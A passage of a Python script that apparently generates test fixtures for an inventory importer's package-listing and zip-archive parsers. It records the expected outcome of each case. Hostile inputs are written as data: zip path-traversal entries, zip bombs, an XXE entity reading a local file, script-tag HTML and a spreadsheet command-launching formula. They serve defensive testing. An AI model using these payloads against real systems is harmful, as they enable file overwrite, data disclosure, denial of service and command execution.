def build_packages():
    f = "packages"
    valid = dpkg_text(DPKG_ROWS).encode()
    html = [[HTML[i % 8].replace("\t", " ").replace("\n", " "), "amd64", HTML[(i + 1) % 8], "1", HTML[(i + 2) % 8]] for i in range(8)]
    inj = [[INJECTION[i % 8].replace("\t", " ").replace("\r", " "), "amd64", INJECTION[(i + 1) % 8].replace("\t", " ").replace("\r", " "), "1", "x"] for i in range(8)]
    generic(f, ".dpkg", valid, dpkg_text(html).encode(), dpkg_text(inj).encode(), True)
    put(f, "valid.rpm", dpkg_text(RPM_ROWS).encode(), "clean", "control case: rpm -qa listing", "assets>=1")
    put(f, "rpm-html.rpm", dpkg_text([[HTML[i], "x86_64", "1", "1", "1", HTML[i + 1], HTML[i + 2], "g"] for i in range(5)]).encode(), "clean",
        "rpm listing with HTML in every field", "assets>=1;html")
    put(f, "wrong-field-count.dpkg", b"onlyname\na\tb\nx\ty\tz\tw\tv\tu\tt\ts\tr\tq\tp\to\n\t\t\t\t\n", "either", "rows with 1, 2, 12 and only empty fields")
    put(f, "many-tabs.dpkg", ("\t" * 100000 + "\n").encode(), "either", "one line of 100 000 tabs")
    put(f, "spaces-not-tabs.dpkg", dpkg_text(DPKG_ROWS).replace("\t", "    ").encode(), "either", "spaces instead of tabs")
    put(f, "huge-listing.dpkg", dpkg_text([[f"pkg{i}", "amd64", f"1.{i}", "10", "misc"] for i in range(20000)]).encode(), "clean", "20 000 packages", "assets>=1")
    put(f, "size-not-number.dpkg", dpkg_text([["a", "amd64", "1", "NaN", "x"], ["b", "amd64", "1", "9" * 400, "x"], ["c", "amd64", "1", "-1", "x"]]).encode(),
        "either", "sizes that are not numbers or overflow")
    put(f, "rpm-bad-epoch.rpm", dpkg_text([["bash", "x86_64", "5.0", "notatime", "x", "V", "S", "G"], ["zsh", "x86_64", "5.8", "99999999999999999999", "x", "V", "S", "G"]]).encode(),
        "either", "install times that are not numbers")
    put(f, "status-file.dpkg", b"Package: bash\nStatus: install ok installed\nVersion: 5.1\n\nPackage: <script>\nVersion: =1+1\n", "either",
        "a dpkg status file instead of a query listing")


# ---------------------------------------------------------------- archives (engine, sniffing)

def build_archive():
    f = "archive"
    dmi = dmi_text().encode()
    reg = utf16(reg_text(REG_ENTRIES))
    put(f, "valid-hosts.zip", zip_of([("pc-1/dmidecode.txt", dmi), ("pc-1/uninstall.reg", reg), ("pc-2/dmidecode.txt", dmi_text({"serial": "X2"}).encode())]),
        "clean", "control case: per-host folders", "sniff;assets>=1")
    put(f, "traversal-dotdot.zip", zip_of([("../../evil.txt", dmi)]), "error", "entry name ../../evil.txt", "sniff")
    put(f, "traversal-deep.zip", zip_of([("hosts/pc-1/../../../../../../tmp/evil.txt", dmi)]), "error", "dot-dot segments after a folder", "sniff")
    put(f, "traversal-absolute.zip", zip_of([("/etc/cron.d/evil", dmi)]), "error", "absolute entry name", "sniff")
    put(f, "traversal-backslash.zip", zip_of([("..\\..\\Windows\\evil.txt", dmi)]), "error", "backslash traversal", "sniff")
    put(f, "traversal-drive.zip", zip_of([("C:/Windows/evil.txt", dmi)]), "error", "drive letter", "sniff")
    put(f, "traversal-nul.zip", zip_of([("ok.txt\0../../evil", dmi)]), "either", "NUL inside the entry name", "sniff")
    put(f, "empty.zip", zip_of([]), "refused", "an archive with no entries", "sniff")
    put(f, "only-dirs.zip", zip_of([("a/", b""), ("a/b/", b"")]), "refused", "folders only", "sniff")
    put(f, "hidden-only.zip", zip_of([(".hidden/dmidecode.txt", dmi), ("__MACOSX/._x", b"\0\5\26\7")]), "refused", "only hidden and resource-fork entries", "sniff")
    put(f, "not-a-zip.zip", b"PK\x03\x04" + rnd("zip1", 2000), "refused", "zip signature then garbage", "sniff")
    put(f, "truncated.zip", zip_of([("pc-1/dmidecode.txt", dmi), ("pc-1/u.reg", reg)])[:-40], "refused", "central directory cut off", "sniff")
    put(f, "nested.zip", zip_of([("inner.zip", zip_of([("pc-1/dmidecode.txt", dmi)]))]), "either", "a zip inside a zip", "sniff")
    nest = zip_of([("pc/dmidecode.txt", dmi)])
    for i in range(20):
        nest = zip_of([(f"level{i}.zip", nest)])
    put(f, "nested-20.zip", nest, "either", "20 levels of nested zips", "sniff")
    put(f, "ratio-bomb.zip", zip_of([("pc-1/dmidecode.txt", dmi + b" " * 150_000_000)]), "error", "one entry expanding ~1000 times to 150 MB", "sniff;timeout=60")
    put(f, "many-small-bombs.zip", zip_of([(f"h{i}/dmidecode.txt", dmi + b"\n" * 3_000_000) for i in range(40)]), "either",
        "40 entries of 3 MB blank lines (ratio bound per entry)", "sniff;timeout=120")
    put(f, "hostile-members.zip", zip_of([("a/garbage.txt", rnd("zip2", 5000)), ("b/evil.xml", ocs_doc({"name": "&lt;script&gt;"}).encode()),
                                          ("c/empty.reg", b""), ("d/dmidecode.txt", dmi)]), "either", "hostile files mixed with a good one", "sniff")
    put(f, "xxe-member.zip", zip_of([("pc/inventory.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [ <!ENTITY xxe SYSTEM "file:///tmp/origo-xxe-secret.txt"> ]>\n'
                                                          + ocs_doc({"name": "X"}, prolog="").replace(">X<", ">&xxe;<")).encode())]),
        "error", "an OCS member with an external entity (the URI is fixed at write time: /tmp/origo-xxe-secret)", "sniff;xxe-fixed")
    put(f, "duplicate-names.zip", dup_zip(), "either", "the same entry name twice", "sniff")
    put(f, "long-name.zip", zip_of([("d" * 60000 + "/dmidecode.txt", dmi)]), "either", "a 60 000-character entry name", "sniff")
    put(f, "unicode-names.zip", zip_of([("主机-1/dmidecode.txt", dmi), ("\u202eexe.reg/dmidecode.txt", dmi)]), "either", "Chinese and bidi-override entry names", "sniff")
    put(f, "html-names.zip", zip_of([("<script>alert(1)<\u2044script>/dmidecode.txt", dmi), ("=cmd|' C calc'!A0/dmidecode.txt", dmi)]), "either",
        "HTML and formula text as folder names", "sniff")
    put(f, "stored-big-declared-small.zip", lie_size(), "error", "local header declares a smaller size than stored", "sniff")
    put(f, "garbage-file.bin", rnd("zip3", 20000), "refused", "an unknown binary file named by the user", "sniff")
    put(f, "empty-file.txt", b"", "either", "an empty text file named by the user", "sniff")


def dup_zip():
    buf = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as z:
            for text in (dmi_text(), dmi_text({"serial": "<b>dup</b>"})):
                z.writestr(zipfile.ZipInfo("pc/dmidecode.txt", date_time=(2024, 1, 1, 0, 0, 0)), text)
    return buf.getvalue()


def lie_size():
    data = zip_of([("pc/dmidecode.txt", dmi_text().encode() * 50)], method=zipfile.ZIP_STORED)
    # shrink the size the central directory declares (uncompressed size field, offset 24 in the entry)
    i = data.rfind(b"PK\x01\x02")
    b = bytearray(data)
    b[i + 24:i + 28] = (100).to_bytes(4, "little")
    return bytes(b)


# ---------------------------------------------------------------- main

def main():
    for f in FOLDERS:
        d = os.path.join(ROOT, f)
        os.makedirs(d, exist_ok=True)
        # fuzzing regressions (fuzz-*, fuzz-cases.tsv) are added by hand and kept
        for name in os.listdir(d):
            if not name.startswith("fuzz-"):
                os.remove(os.path.join(d, name))
    build_csv()
    build_xlsx()
    build_glpi()
    build_ocs()
    build_dmi()
    build_lshw()
    build_cpuinfo()
    build_reg()
    build_packages()
    build_cdx()
    build_archive()
    total = 0
    for f in FOLDERS:
        with open(os.path.join(ROOT, f, "cases.tsv"), "w", encoding="utf-8") as out:
            out.write("# file\texpect\tflags\twhat\n")
            for name, expect, flags, note in cases[f]:
                out.write(f"{name}\t{expect}\t{flags}\t{note}\n")
        total += len(cases[f])
        print(f"{f:10s} {len(cases[f]):4d}")
    print(f"{'total':10s} {total:4d}")


if __name__ == "__main__":
    main()
